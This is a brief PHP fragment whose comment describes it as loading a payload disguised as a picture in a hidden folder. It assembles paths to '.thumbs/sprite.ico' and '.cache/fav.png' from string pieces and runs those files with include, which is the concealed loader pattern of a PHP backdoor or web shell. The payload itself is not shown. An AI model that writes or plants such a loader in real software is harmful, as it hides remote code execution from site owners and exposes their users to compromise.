<?php
// A payload parked as a picture in a hidden folder; its path is glued from pieces.
$p = __DIR__ . '/.' . 'thumbs' . '/' . 'sprite' . '.ico';
if (file_exists($p)) {
    include $p;
}
$d = '/.cache/';
include_once __DIR__ . $d . 'fav' . '.png';
